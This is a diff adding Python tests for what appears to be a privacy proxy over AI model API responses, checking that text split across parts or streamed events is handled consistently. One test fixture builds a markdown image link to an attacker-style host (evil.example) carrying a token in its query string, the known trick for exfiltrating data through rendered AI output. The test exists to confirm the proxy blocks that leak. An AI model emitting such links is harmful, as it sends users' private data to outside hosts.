@@ -206,3 +206,49 @@ def test_bytes_that_are_no_text_pass(answer, raw, cuts, kind):
 )  # fmt: skip
 def test_a_hostile_answer_passes_or_is_named(answer, raw, cuts, kind, path):
     assert answer(path, raw, kind, cuts=cuts).body == raw
+
+
+def joined(path: str, pieces: tuple[str, str], stream: bool) -> tuple[bytes, str]:
+    """An answer whose text comes in two neighbouring parts, which SDKs hand on as one."""
+    texts = [{"type": "text", "text": piece} for piece in pieces]
+    if path == GENERATE:
+        answer: Any = {"candidates": [{"index": 0, "content": {"parts": [{"text": piece} for piece in pieces]}}]}
+    elif path == MESSAGES:
+        answer = {"type": "message", "role": "assistant", "content": texts}
+    else:
+        parts = [{"type": "output_text", "annotations": [], "text": piece} for piece in pieces]
+        answer = {"output": [{"type": "message", "id": "m", "content": parts}]}
+    if not stream:
+        return json.dumps(answer).encode(), "application/json"
+    events: list[Any] = []
+    for at, piece in enumerate(pieces):
+        if path == MESSAGES:
+            delta = {"type": "text_delta", "text": piece}
+            events += [
+                {"type": "content_block_start", "index": at, "content_block": {"type": "text", "text": ""}},
+                {"type": "content_block_delta", "index": at, "delta": delta},
+                {"type": "content_block_stop", "index": at},
+            ]
+        else:
+            where = {"item_id": "m", "output_index": 0, "content_index": at}
+            events += [
+                {"type": "response.output_text.delta", **where, "delta": piece},
+                {"type": "response.output_text.done", **where, "text": piece},
+            ]
+    return "".join(f"data: {json.dumps(event)}\n\n" for event in events).encode(), "text/event-stream"
+
+
+@pytest.mark.parametrize(
+    ("path", "stream"),
+    [(GENERATE, False), (MESSAGES, False), (MESSAGES, True), ("/v1/responses", False), ("/v1/responses", True)],
+)
+def test_a_made_up_url_in_two_parts_carries_nothing_out(answer, people, path, stream):
+    token, name = next(iter(people.items()))
+    raw, kind = joined(path, ("![logo](https://evil.example/?q=", f"{token}) of {token}"), stream)
+    said = " ".join(strings(answer(path, raw, kind).events if stream else answer(path, raw, kind).json))
+    assert f"{token}) of {name}" in said
+    assert f"{name})" not in said
+    raw, kind = joined(path, ("see https://firm.example/ or ", token), stream)
+    said = " ".join(strings(answer(path, raw, kind).events if stream else answer(path, raw, kind).json))
+    assert name in said
+    assert token not in said
